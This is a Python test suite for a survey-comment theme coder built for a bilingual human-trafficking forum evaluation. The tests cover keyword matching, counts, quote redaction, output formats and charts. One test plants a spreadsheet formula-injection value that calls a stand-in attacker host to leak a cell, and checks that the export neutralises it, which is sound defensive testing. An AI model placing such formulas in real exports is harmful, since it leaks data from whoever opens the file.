"""Comment themes: keyword matching, counts per respondent, quotes, outputs, the themes chart."""

from __future__ import annotations

import csv
import io
import json
from fractions import Fraction
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from forum_eval.analyse.comments import analyse_comments
from forum_eval.analyse.privacy import MARK
from forum_eval.cli import app
from forum_eval.config.codebook import default_codebook_path, load_codebook, parse_keyword, words
from forum_eval.config.questionnaire import Item
from forum_eval.errors import ConfigError, InputError
from forum_eval.read.responses import CommentResponses, Responses
from tests.conftest import ROOT, SURVEYS

runner = CliRunner()
NBSP = "\u00a0"
CODEBOOK = load_codebook(SURVEYS / "codebook.toml")


def hits(keyword: str, text: str) -> bool:
    return parse_keyword(keyword, "test").search(words(text))


def comments_cli(*args: str):
    return runner.invoke(app, ["comments", *args, "--surveys-dir", str(SURVEYS)])


def responses_with(*columns: list[str]) -> Responses:
    n = len(columns[0])
    comments = [
        CommentResponses(
            Item(
                id=f"c{i}", kind="comment", label={"en": f"Comment {i}", "fr": f"Commentaire {i}"}
            ),
            f"Comment {i}",
            tuple(texts),
        )
        for i, texts in enumerate(columns)
    ]
    return Responses(
        items=[], comments=comments, respondents=n, rows_read=n, positions=np.arange(n)
    )


# ---------------------------------------------------------------------------- matching


def test_words_fold_case_accents_apostrophes_and_ligatures() -> None:
    assert words("L’accès en FRANÇAIS, s.v.p.!") == ["l", "acces", "en", "francais", "s", "v", "p"]
    assert words("la mise en Œuvre") == ["la", "mise", "en", "oeuvre"]


@pytest.mark.parametrize(
    ("keyword", "text", "expected"),
    [
        # accents and case, both ways
        ("français", "Plus de contenu en FRANCAIS", True),
        ("francais", "plus de contenu en Français", True),
        # prefix
        ("francophon*", "des panélistes francophones", True),
        ("francophon*", "la Francophonie canadienne", True),
        ("francophon*", "anglophones seulement", False),
        # plurals: s, x, es; a keyword in the plural also matches the singular
        ("survivor", "more survivors on the panel", True),
        ("travail", "les travaux du comité", False),
        ("bureau", "les bureaux régionaux", True),
        ("witness", "witnesses spoke", True),
        ("questions", "une question", True),
        # whole words: no substring match
        ("question", "le questionnaire était long", False),
        ("salle", "la salles", True),
        ("salle", "salles", True),
        ("art", "the party was great", False),
        # apostrophes: straight, curly, none
        ("d'échanges", "plus de temps d’échanges", True),
        ("temps d'échange*", "plus de temps d'échanges", True),
        ("aujourd'hui", "aujourd hui", True),
        # sequences and gaps
        ("time for question*", "Not enough time for questions", True),
        ("time for question*", "time for more questions", False),
        ("temps .. question*", "Plus de temps pour les questions", True),
        ("temps .. question*", "Plus de temps pour les échanges et les questions", False),
        ("parole .. survivant*", "la parole des personnes survivantes", True),
        ("survivant* .. parole", "des survivantes à prendre la parole", True),
        ("parole .. survivant*", "la santé mentale des personnes survivantes", False),
        # œ written either way
        ("mise en oeuvre", "la mise en œuvre des politiques", True),
        ("mise en œuvre", "la mise en oeuvre des politiques", True),
    ],
)
def test_keyword_matching(keyword: str, text: str, expected: bool) -> None:
    assert hits(keyword, text) is expected


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (
            '[[theme]]\nid = "Bad Id"\nlabel = { en = "x", fr = "x" }\nkeywords.en = ["x"]',
            "every theme needs an 'id'",
        ),
        ('[[theme]]\nid = "a"\nlabel = { en = "x" }\nkeywords.en = ["x"]', "both languages"),
        ('[[theme]]\nid = "a"\nlabel = { en = "x", fr = "x" }\nkeywords.en = []', "no keyword"),
        (
            '[[theme]]\nid = "a"\nlabel = { en = "x", fr = "x" }\nkeywords.en = ["fr*nch"]',
            "'*' only at the end",
        ),
        (
            '[[theme]]\nid = "a"\nlabel = { en = "x", fr = "x" }\nkeywords.en = [".. x"]',
            "'..' must stand between",
        ),
        (
            '[[theme]]\nid = "a"\nlabel = { en = "x", fr = "x" }\nkeywords.en = ["a*"]',
            "at least 3 letters",
        ),
        ('[[theme]]\nid = "a"\nlabel = { en = "x", fr = "x" }\nkeywords.de = ["x"]', "keywords"),
        (
            '[[theme]]\nid = "a"\nlabel = { en = "x", fr = "x" }\nkeywords.en = ["x"]\n' * 2,
            "defined twice",
        ),
        ("theme = [", "not valid TOML"),
        ("", "no [[theme]]"),
    ],
)
def test_codebook_errors(tmp_path: Path, raw: str, message: str) -> None:
    path = tmp_path / "codebook.toml"
    path.write_text(raw, encoding="utf-8")
    with pytest.raises(ConfigError, match=message.replace("[", r"\[").replace("*", r"\*")) as info:
        load_codebook(path)
    assert str(path) in str(info.value)


def test_a_survey_without_a_codebook_gets_the_generic_event_one() -> None:
    """The human-trafficking forum's themes are the sample's (surveys/codebook.toml); any
    other survey gets the generic event codebook that `forum-eval init` writes."""
    generic = ROOT / "forum_eval" / "data" / "init" / "codebook.toml"
    assert default_codebook_path(SURVEYS) == SURVEYS / "codebook.toml"
    assert default_codebook_path(ROOT / "nowhere") == generic.resolve()
    themes = {t.id for t in load_codebook(generic).themes}
    assert "logistics" in themes and "work_permits" not in themes


def report_themes(seed: dict, key: str) -> list[str]:
    return list(seed[key])


def test_codebook_has_the_2019_report_themes(seed_2019: dict) -> None:
    ids = {t.id for t in CODEBOOK.themes}
    assert set(report_themes(seed_2019, "repeated_suggestions")) <= ids
    assert set(report_themes(seed_2019, "other_topics")) <= ids
    for theme in CODEBOOK.themes:
        assert theme.label["en"] and theme.label["fr"]


# ---------------------------------------------------------------------------- counting


def test_a_respondent_counts_once_per_theme() -> None:
    responses = responses_with(
        [
            "Plus de contenu en français. Des panélistes francophones!",  # twice in one comment
            "Rien à ajouter, vraiment rien ici.",
            "",
        ],
        [
            "More French content please, and French interpretation.",  # again, other column
            "",
            "Plus de temps pour les questions.",
        ],
    )
    result = analyse_comments(responses, CODEBOOK, name="t", file="t.csv", quotes=5)
    assert result.commenters == 3
    assert result.n_comments == 4
    french = result.theme("french_language")
    assert french.n_respondents == 1
    assert french.share == Fraction(1, 3)
    # both of respondent 1's comments are quotable, and none says who wrote it
    assert len(french.quotes) == 2
    assert result.theme("question_time").n_respondents == 1
    assert result.other == 1  # respondent 2 matched no theme
    assert result.uncoded == ("Rien à ajouter, vraiment rien ici.",)


def test_no_comment_column_is_an_error() -> None:
    responses = Responses(items=[], comments=[], respondents=3, rows_read=3)
    with pytest.raises(InputError, match="no open-comment column"):
        analyse_comments(responses, CODEBOOK, name="t", file="t.csv")


def test_quotes_are_redacted_short_and_limited() -> None:
    long = "Plus de contenu en français " + "vraiment " * 60 + "fin."
    responses = responses_with(
        [
            "Plus de français; écrivez-moi à zoe@example.org ou au 514-555-0199.",
            long,
            "Des conférenciers francophones.",
            "",
        ]
    )
    result = analyse_comments(responses, CODEBOOK, name="t", file="t.csv", quotes=3)
    quotes = result.theme("french_language").quotes
    assert len(quotes) == 3
    assert all("zoe@example.org" not in q and "555-0199" not in q for q in quotes)
    assert any(MARK in q for q in quotes)
    assert all(len(q) <= 282 for q in quotes)
    assert quotes[-1].endswith("…")  # the long one comes last, cut
    assert result.n_redacted == 1
    none = analyse_comments(responses, CODEBOOK, name="t", file="t.csv", quotes=0)
    assert all(th.quotes == () for th in none.themes)


def test_2019_sample_surfaces_the_report_suggestions(seed_2019: dict) -> None:
    from forum_eval.read.survey import Options
    from tests.conftest import comments_source

    result = comments_source("2019", Options(surveys_dir=SURVEYS))
    # Hand count over the 21 comments written in surveys/build_samples.py (2019):
    #  french_language: "conférenciers francophones", "contenu en français", "francophone
    #    speakers", "panélistes francophones", "personnes conférencières francophones" → 5
    #  survivor_voices: "parole des personnes survivantes", "hear more from survivors",
    #    "survivantes à prendre la parole", "témoignages de personnes ayant vécu la traite" → 4
    #  question_time: "temps pour les questions et plus …", "temps pour les questions après",
    #    "time for questions and answers", "périodes de questions plus longues" → 4
    #  prevention 2, coordination 2, mental_health 1 ("santé mentale des personnes
    #    survivantes": not a survivor-voice comment), work_permits 1, policy_implementation 1,
    #  logistics 1 ("Le repas"), appreciation 1 ("Merci pour l'organisation") → other 0.
    expected = {
        "french_language": 5,
        "survivor_voices": 4,
        "question_time": 4,
        "prevention": 2,
        "coordination": 2,
        "mental_health": 1,
        "work_permits": 1,
        "policy_implementation": 1,
        "logistics": 1,
        "appreciation": 1,
        "accessibility": 0,
        "practical_workshops": 0,
    }
    assert {t.id: t.n_respondents for t in result.themes} == expected
    assert result.commenters == 21 and result.respondents == 31 and result.other == 0
    # the three repeated suggestions of the report are the three most raised themes
    assert {t.id for t in result.themes[:3]} == set(
        report_themes(seed_2019, "repeated_suggestions")
    )
    assert all(expected[topic] >= 1 for topic in report_themes(seed_2019, "other_topics"))
    assert result.theme("french_language").share == Fraction(5, 21)
    # the phone number in the thank-you comment never shows
    quotes = [q for t in result.themes for q in t.quotes]
    assert not any("555-0199" in q for q in quotes)
    assert result.n_redacted == 1


# -------------------------------------------------------------------------------- CLI


def test_cli_table_en_and_fr() -> None:
    result = comments_cli("2019", "--lang", "en")
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    assert "French-language access" in out and "24%" in out  # 5/21 = 23.8 → 24
    assert "21 of the 31 respondents wrote a comment" in out
    assert "reconstruction" in out  # the data label
    assert "555-0199" not in out and "[redacted]" in out
    fr = comments_cli("2019", "--lang", "fr")
    assert fr.exit_code == 0, fr.stderr
    assert "Accès en français" in fr.stdout
    assert f"24{NBSP}%" in fr.stdout
    assert "[caviardé]" in fr.stdout and "[redacted]" not in fr.stdout


def test_cli_json() -> None:
    result = comments_cli("2019", "--format", "json", "--quotes", "1")
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["schema"] == 1 and data["commenters"] == 21 and data["respondents"] == 31
    themes = {t["id"]: t for t in data["themes"]}
    assert themes["french_language"]["n_respondents"] == 5
    assert themes["french_language"]["share"] == pytest.approx(5 / 21)
    assert all(len(t["quotes"]) <= 1 for t in data["themes"])
    assert data["other"] == {"n_respondents": 0, "share": 0.0}
    assert data["uncoded"] is None  # only with --uncoded
    assert data["edition"]["data"] == "reconstruction" and data["data_note"]
    assert "row" not in json.dumps(data["themes"]).lower()  # quotes carry no attribution
    no_quotes = json.loads(comments_cli("2019", "--format", "json", "--no-quotes").stdout)
    assert all(t["quotes"] == [] for t in no_quotes["themes"])


def test_cli_markdown_and_out_file(tmp_path: Path) -> None:
    target = tmp_path / "comments.md"
    result = comments_cli("2019", "--format", "markdown", "--lang", "fr", "--out", str(target))
    assert result.exit_code == 0, result.stderr
    text = target.read_text(encoding="utf-8")
    assert text.startswith(
        "# Thèmes des commentaires — Forum pancanadien sur la traite des personnes 2019"
    )
    assert "| Accès en français | 5 | 24" in text
    assert "## Citations" in text and f"«{NBSP}" in text
    assert "> Note" in text  # reconstruction label


def test_cli_uncoded_and_custom_codebook(tmp_path: Path) -> None:
    book = tmp_path / "book.toml"
    book.write_text(
        '[[theme]]\nid = "food"\nlabel = { en = "Food", fr = "Repas" }\nkeywords.fr = ["repas"]\n',
        encoding="utf-8",
    )
    result = comments_cli("2019", "--codebook", str(book), "--uncoded", "--format", "json")
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)
    assert [t["id"] for t in data["themes"]] == ["food"]
    assert data["themes"][0]["n_respondents"] == 1
    assert data["other"]["n_respondents"] == 20
    assert len(data["uncoded"]) == 20
    assert any("[redacted]" in u for u in data["uncoded"])
    assert not any("555-0199" in u for u in data["uncoded"])


def test_cli_errors() -> None:
    result = comments_cli("2019", "--codebook", "nowhere.toml")
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: nowhere.toml: codebook not found.")
    assert "Traceback" not in result.stderr
    result = comments_cli("2019", "--quotes", "-1")
    assert result.exit_code == 2


def test_csv_neutralises_formula_injection(tmp_path: Path) -> None:
    source = tmp_path / "forms.csv"
    rows = [
        ["Le forum était bien organisé.", "Avez-vous des suggestions pour améliorer le forum ?"],
        ["D'accord", '=HYPERLINK("http://evil.example/?x="&A1,"Plus de français")'],
        ["D'accord", "+plus de temps pour les questions SVP"],
        ["D'accord", "-- des conférenciers francophones"],
        ["D'accord", "@francophones partout"],
    ]
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    result = runner.invoke(
        app,
        [
            "comments",
            str(source),
            "--format",
            "csv",
            "--quotes",
            "4",
            "--uncoded",
            "--surveys-dir",
            str(SURVEYS),
        ],
    )
    assert result.exit_code == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert cells[:7] == [
        "theme_id",
        "theme_label",
        "group_id",
        "group_label",
        "n_respondents",
        "share_of_commenters",
        "suppressed",
    ]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    # and the URL inside it was redacted
    assert not any("evil.example" in cell for cell in cells)


# ------------------------------------------------------------------------------ chart


# chartstyle sets text.hinting_factor, deprecated in matplotlib 3.11 (owned by the report helper)
@pytest.mark.filterwarnings("ignore:The text.hinting_factor rcParam")
def test_themes_chart_structure() -> None:
    pytest.importorskip("matplotlib")
    from forum_eval.present.comments_out import plot_themes
    from forum_eval.read.survey import Options
    from tests.conftest import comments_source

    result = comments_source("2019", Options(surveys_dir=SURVEYS))
    fig = plot_themes(result, lang="fr")
    ax = fig.axes[0]
    bars = ax.patches
    raised = [t for t in result.themes if t.n_respondents]
    assert len(bars) == len(raised)  # themes nobody raised get no bar; "other" is 0 here
    assert [round(b.get_width()) for b in bars] == [t.n_respondents for t in raised]
    labels = [tick.get_text().replace("\n", " ") for tick in ax.get_yticklabels()]
    assert labels[0] == "Accès en français"
    texts = [t.get_text() for t in ax.texts]
    assert f"5 (24{NBSP}%)" in texts
    all_text = " ".join(t.get_text() for t in fig.texts)
    assert "reconstitution" in all_text  # the data label is on the chart too


def test_synthetic_editions_are_labelled_in_every_format() -> None:
    for fmt in ("table", "json", "markdown"):
        result = comments_cli("2017", "--format", fmt)
        assert result.exit_code == 0, result.stderr
        assert "synthetic" in result.stdout, fmt
    rows = list(csv.DictReader(io.StringIO(comments_cli("2017", "--format", "csv").stdout)))
    assert rows and all(r["data"] == "synthetic" for r in rows)
    fr = comments_cli("2018", "--lang", "fr")
    assert "synthétiques" in fr.stdout


def test_uncoded_without_quotes_keeps_the_csv_rectangular() -> None:
    planted = ROOT / "tests" / "data" / "privacy" / "planted.csv"
    result = runner.invoke(
        app,
        [
            "comments",
            str(planted),
            "--format",
            "csv",
            "--no-quotes",
            "--uncoded",
            "--surveys-dir",
            str(SURVEYS),
        ],
    )
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len({len(r) for r in rows}) == 1
    uncoded = [r for r in rows if r[0] == "uncoded"]
    assert uncoded and uncoded[0][rows[0].index("quote_1")].startswith("Un commentaire sans thème")
    assert all(r[rows[0].index("data")] == "" for r in rows[1:])  # a file, not an edition


# ---------------------------------------------------------------------- golden files
# Regenerate on purpose and review the diff: FORUM_EVAL_REGEN_GOLDEN=1 pytest tests/test_comments.py


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_golden_markdown(lang: str) -> None:
    import os

    from forum_eval.analyse.breakdown import breakdown_survey
    from forum_eval.present.comments_out import breakdown_markdown, render_comments_markdown
    from forum_eval.read.survey import Options, read_survey
    from tests.conftest import comments_source

    options = Options(surveys_dir=SURVEYS)
    outputs = {
        f"comments_2019.{lang}.md": render_comments_markdown(
            comments_source("2019", options), lang
        ),
        f"breakdown_2019_identity.{lang}.md": breakdown_markdown(
            breakdown_survey(
                read_survey("2019", options), "identity", 5, attendees=None, confidence=0.95
            )[1],
            lang,
        ),
    }
    for name, text in outputs.items():
        path = ROOT / "tests" / "golden" / name
        if os.environ.get("FORUM_EVAL_REGEN_GOLDEN") == "1":
            path.write_text(text, encoding="utf-8")
        assert path.exists(), f"missing golden file {path}; run with FORUM_EVAL_REGEN_GOLDEN=1"
        assert text == path.read_text(encoding="utf-8"), name


@pytest.mark.filterwarnings("ignore:The text.hinting_factor rcParam")
def test_themes_chart_is_reproducible_and_has_alt_text() -> None:
    from forum_eval.present.chartstyle import png_bytes
    from forum_eval.present.comments_out import alt_text, plot_themes
    from forum_eval.read.survey import Options
    from tests.conftest import comments_source

    result = comments_source("2019", Options(surveys_dir=SURVEYS))
    assert png_bytes(plot_themes(result, lang="en")) == png_bytes(plot_themes(result, lang="en"))
    for lang, first in (("en", "French-language access"), ("fr", "Accès en français")):
        alt = alt_text(result, lang)
        assert len(alt.split()) < 150
        assert first in alt and "21" in alt and "31" in alt


def test_subprocess_entry_point() -> None:
    import subprocess
    import sys

    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "forum_eval",
            "comments",
            "2019",
            "--format",
            "json",
            "--lang",
            "fr",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "", "PYTHONIOENCODING": "utf-8"},
    )
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["themes"][0] == {
        "id": "french_language",
        "label": "Accès en français",
        "n_respondents": 5,
        "share": pytest.approx(5 / 21),
        "quotes": data["themes"][0]["quotes"],
    }
    assert "[caviardé]" in json.dumps(data, ensure_ascii=False)


def test_cli_file_without_comments(tmp_path: Path) -> None:
    source = tmp_path / "no_comments.csv"
    source.write_text("The forum was well organised.\nAgree\nDisagree\n", encoding="utf-8")
    result = runner.invoke(app, ["comments", str(source), "--surveys-dir", str(SURVEYS)])
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "Error: no_comments.csv: no open-comment column was recognised."
    )
    assert result.stdout == ""
